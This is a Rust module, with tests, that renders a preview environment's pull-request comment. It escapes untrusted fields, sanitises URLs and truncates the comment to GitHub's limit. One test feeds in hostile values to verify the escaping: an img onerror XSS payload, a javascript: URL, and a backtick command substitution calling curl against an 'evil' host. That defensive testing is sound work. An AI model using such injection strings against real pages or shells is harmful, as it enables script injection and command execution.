//! The pull-request comment that tracks a preview.
//!
//! There is exactly one such comment per environment and pull request: it starts with a hidden
//! marker ([`comment_marker`]) that the forge adapter looks for to update it in place, instead of
//! matching on visible text (which any human comment could contain) or posting duplicates.

use std::fmt::Write as _;

use chrono::{DateTime, Utc};

use super::{code_span, cut, escape_markdown, format_time, relative, safe_url};
use crate::domain::lifecycle::Status;
use crate::domain::naming::EnvName;
use crate::domain::template::TemplateName;

/// GitHub's limit on the body of a comment. Rendered comments never exceed it (measured in
/// bytes, which is never less than characters).
pub const MAX_COMMENT_LEN: usize = 65_536;

/// Appended when something had to be cut to fit [`MAX_COMMENT_LEN`].
const TRUNCATION_NOTE: &str = "\n\n> [!NOTE]\n> This comment was truncated to fit GitHub's 65,536-character limit; the full output is in the workflow run log.\n";

/// How much of each short free-text field is shown, in bytes.
const MAX_FIELD: usize = 1_000;

/// The hidden first line of the comment for `env`: `<!-- idp:preview:{env} -->`.
///
/// An [`EnvName`] has only `a-z`, `0-9` and single hyphens, so it can never close the HTML
/// comment early.
pub fn comment_marker(env: &EnvName) -> String {
    format!("<!-- idp:preview:{env} -->")
}

/// What happened to the environment, which sets the comment's title.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CommentState {
    /// It was provisioned for the first time.
    Created,
    /// It was redeployed and its TTL extended.
    Updated,
    /// The provision or redeploy failed.
    Failed,
    /// It was destroyed.
    Destroyed,
}

/// Everything the comment shows. Callers fill it from the decision, the metadata and the
/// provisioner's outputs; nothing here is looked up.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommentView {
    /// The environment.
    pub env: EnvName,
    /// What happened (the title).
    pub state: CommentState,
    /// The branch (untrusted: it is escaped).
    pub branch: String,
    /// The endpoint; `None` shows "pending" (or "—" once destroyed).
    pub url: Option<String>,
    /// The environment's status.
    pub status: Status,
    pub template: TemplateName,
    /// The deployed commit (full or short SHA; shown as 7 characters).
    pub commit: Option<String>,
    /// When it expires.
    pub expires_at: Option<DateTime<Utc>>,
    /// The time of rendering, for "in 2d 3h".
    pub now: DateTime<Utc>,
    /// A cost estimate, e.g. `~$35/month`.
    pub cost_estimate: Option<String>,
    /// Where the logs are: a URL (linked) or a command (shown as code).
    pub logs: Option<String>,
    /// The failure output for [`CommentState::Failed`] (shown folded, cut to fit).
    pub detail: Option<String>,
}

/// The Markdown body of the pull-request comment, starting with [`comment_marker`] and at most
/// [`MAX_COMMENT_LEN`] bytes long.
pub fn pr_comment(view: &CommentView) -> String {
    let mut truncated = false;
    let mut field = |text: &str| -> String {
        let (shown, was_cut) = cut(text, MAX_FIELD);
        truncated |= was_cut;
        if was_cut {
            format!("{shown}…")
        } else {
            shown.to_owned()
        }
    };
    let destroyed = view.state == CommentState::Destroyed;

    let title = match view.state {
        CommentState::Created => "🚀 Preview environment created",
        CommentState::Updated => "🔄 Preview environment updated",
        CommentState::Failed => "❌ Preview environment failed",
        CommentState::Destroyed => "🗑️ Preview environment destroyed",
    };
    let url = match (view.url.as_deref(), destroyed) {
        (_, true) => "—".to_owned(),
        (Some(u), false) => match safe_url(u) {
            Some(u) => format!("<{u}>"),
            None => escape_markdown(&field(u)),
        },
        (None, false) => "_pending_".to_owned(),
    };
    let commit = view.commit.as_deref().map_or_else(
        || "—".to_owned(),
        |c| code_span(&field(c.get(..7).unwrap_or(c))),
    );
    let expires = match (view.expires_at, destroyed) {
        (_, true) | (None, _) => "—".to_owned(),
        (Some(at), false) => format!("{} ({})", format_time(at), relative(at, view.now)),
    };
    let cost = view
        .cost_estimate
        .as_deref()
        .map_or_else(|| "—".to_owned(), |c| escape_markdown(&field(c)));
    let logs = view.logs.as_deref().map_or_else(
        || "—".to_owned(),
        |l| match safe_url(l) {
            Some(u) => format!("[View logs]({u})"),
            None => code_span(&field(l)),
        },
    );
    let branch = escape_markdown(&field(&view.branch));

    let mut body = String::new();
    let _ = writeln!(body, "{}", comment_marker(&view.env));
    let _ = writeln!(body, "### {title}\n");
    let _ = writeln!(body, "| | |\n|---|---|");
    let rows = [
        ("Environment", code_span(view.env.as_str())),
        ("Branch", branch),
        ("URL", url),
        ("Status", code_span(view.status.as_str())),
        ("Template", code_span(view.template.as_str())),
        ("Commit", commit),
        ("Expires", expires),
        ("Cost estimate", cost),
        ("Logs", logs),
    ];
    for (name, value) in rows {
        let _ = writeln!(body, "| {name} | {value} |");
    }
    body.push('\n');
    match view.state {
        CommentState::Destroyed => body.push_str(
            "> The environment and its images and state were removed. Push to the branch again to get a new preview.\n",
        ),
        CommentState::Failed => body.push_str(
            "> Push a fix to retry. The environment is destroyed when the pull request is merged or closed, or the branch is deleted.\n",
        ),
        CommentState::Created | CommentState::Updated => body.push_str(
            "> Destroyed automatically when the pull request is merged or closed, or the branch is deleted. Every push redeploys it and extends its TTL.\n",
        ),
    }

    if let (CommentState::Failed, Some(detail)) = (view.state, view.detail.as_deref()) {
        let fence = "`".repeat(longest_backtick_run(detail).max(2) + 1);
        let frame = format!(
            "\n<details><summary>Failure output</summary>\n\n{fence}text\n\n{fence}\n\n</details>\n"
        );
        let budget =
            MAX_COMMENT_LEN.saturating_sub(body.len() + frame.len() + TRUNCATION_NOTE.len());
        let clean: String = detail
            .chars()
            .map(|c| {
                if c.is_control() && c != '\n' && c != '\t' {
                    '\u{FFFD}'
                } else {
                    c
                }
            })
            .collect();
        let (detail, was_cut) = cut(&clean, budget);
        truncated |= was_cut;
        let _ = write!(
            body,
            "\n<details><summary>Failure output</summary>\n\n{fence}text\n{detail}\n{fence}\n\n</details>\n"
        );
    }

    if truncated || body.len() + TRUNCATION_NOTE.len() > MAX_COMMENT_LEN {
        let (kept, _) = cut(&body, MAX_COMMENT_LEN - TRUNCATION_NOTE.len());
        let mut kept = kept.to_owned();
        kept.push_str(TRUNCATION_NOTE);
        return kept;
    }
    body
}

fn longest_backtick_run(text: &str) -> usize {
    let mut longest = 0;
    let mut run = 0;
    for c in text.chars() {
        run = if c == '`' { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    longest
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::Duration;

    fn now() -> DateTime<Utc> {
        "2026-03-01T12:00:00Z".parse().unwrap()
    }

    fn view(state: CommentState) -> CommentView {
        CommentView {
            env: EnvName::parse("preview-payment-api").unwrap(),
            state,
            branch: "feature/payment-api".into(),
            url: Some("https://preview-payment-api.preview.example.com".into()),
            status: Status::Active,
            template: TemplateName::default_template(),
            commit: Some("6113728f27ae82c7b1a177c8d03f9e96e0adf246".into()),
            expires_at: Some(now() + Duration::hours(51)),
            now: now(),
            cost_estimate: Some("~$35/month".into()),
            logs: Some("idp logs preview-payment-api --follow".into()),
            detail: None,
        }
    }

    #[test]
    fn created_comment_snapshot() {
        let mut v = view(CommentState::Created);
        v.url = None;
        v.status = Status::Provisioning;
        insta::assert_snapshot!(pr_comment(&v));
    }

    #[test]
    fn updated_comment_snapshot() {
        let mut v = view(CommentState::Updated);
        v.logs = Some(
            "https://console.aws.amazon.com/cloudwatch/home?region=us-east-1#logsV2:log-groups"
                .into(),
        );
        insta::assert_snapshot!(pr_comment(&v));
    }

    #[test]
    fn failed_comment_snapshot() {
        let mut v = view(CommentState::Failed);
        v.status = Status::Failed;
        v.cost_estimate = None;
        v.detail = Some(
            "Error: creating ECS Service: InvalidParameterException\n```\nnested fence\n```".into(),
        );
        insta::assert_snapshot!(pr_comment(&v));
    }

    #[test]
    fn destroyed_comment_snapshot() {
        let mut v = view(CommentState::Destroyed);
        v.status = Status::Destroyed;
        insta::assert_snapshot!(pr_comment(&v));
    }

    #[test]
    fn hostile_branch_comment_snapshot() {
        let mut v = view(CommentState::Created);
        v.branch = "x-->|<img src=x onerror=alert(1)>@org/team`$(curl${IFS}evil)`".into();
        v.url = Some("javascript:alert(1)".into());
        v.logs = Some("idp logs `rm` | sh".into());
        let body = pr_comment(&v);
        assert_eq!(
            body.matches("-->").count(),
            1,
            "only the marker closes a comment"
        );
        assert!(!body.contains("<img"));
        assert!(!body.contains("@org"));
        assert!(!body.contains("](javascript"));
        insta::assert_snapshot!(body);
    }

    #[test]
    fn comment_starts_with_its_marker() {
        for state in [
            CommentState::Created,
            CommentState::Updated,
            CommentState::Failed,
            CommentState::Destroyed,
        ] {
            assert!(
                pr_comment(&view(state)).starts_with("<!-- idp:preview:preview-payment-api -->\n")
            );
        }
    }

    #[test]
    fn huge_failure_output_is_cut_to_the_limit_with_a_note() {
        let mut v = view(CommentState::Failed);
        v.detail = Some("error line ✗\n".repeat(20_000));
        v.cost_estimate = Some("x".repeat(5_000));
        let body = pr_comment(&v);
        assert!(body.len() <= MAX_COMMENT_LEN, "{}", body.len());
        assert!(
            body.len() > MAX_COMMENT_LEN - 1_000,
            "the budget is used: {}",
            body.len()
        );
        assert!(body.ends_with(TRUNCATION_NOTE));
        assert!(body.contains("</details>"), "the fold is closed");
    }

    #[test]
    fn short_comment_has_no_truncation_note() {
        assert!(!pr_comment(&view(CommentState::Updated)).contains("truncated"));
    }

    proptest::proptest! {
        #[test]
        fn any_branch_logs_or_output_keeps_one_marker_and_fits(
            branch in ".{0,300}",
            logs in ".{0,300}",
            detail in proptest::option::of(".{0,2000}"),
            huge in 0usize..3,
        ) {
            let mut v = view(CommentState::Failed);
            v.branch = branch;
            v.logs = Some(logs);
            v.detail = detail.map(|d| d.repeat(huge * 40 + 1));
            let body = pr_comment(&v);
            proptest::prop_assert!(body.len() <= MAX_COMMENT_LEN);
            proptest::prop_assert!(body.starts_with("<!-- idp:preview:preview-payment-api -->\n"));
            let table: Vec<&str> = body
                .lines()
                .take_while(|l| !l.starts_with("<details>"))
                .filter(|l| l.starts_with("| "))
                .collect();
            proptest::prop_assert_eq!(table.len(), 10);
            for row in table {
                proptest::prop_assert!(!row.contains("<img") && !row.contains("-->"), "{}", row);
            }
        }
    }
}
